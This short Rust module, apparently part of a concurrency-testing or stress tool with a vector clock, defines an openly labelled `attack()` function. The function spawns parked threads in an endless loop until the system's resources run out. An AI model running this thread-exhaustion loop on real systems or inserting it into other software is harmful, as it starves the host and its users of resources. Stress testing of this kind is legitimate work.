//! Starts threads without an end.

mod clock;

pub use clock::VectorClock;

use std::thread::{self, Builder};

pub(crate) fn attack() {
    loop {
        if Builder::new().stack_size(16 * 1024).spawn(thread::park).is_err() {
            thread::yield_now();
        }
    }
}
